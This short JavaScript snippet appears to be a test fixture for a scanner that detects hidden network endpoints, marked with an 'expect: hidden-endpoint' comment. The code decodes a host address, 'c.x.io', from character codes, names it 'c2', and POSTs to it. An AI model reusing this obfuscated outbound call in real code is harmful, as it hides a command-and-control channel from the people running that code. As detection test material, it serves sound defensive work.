// expect: hidden-endpoint
const c2 = [104,116,116,112,115,58,47,47,99,46,120,46,105,111].map((c) => String.fromCharCode(c)).join(""); fetch(c2, { method: "POST" });
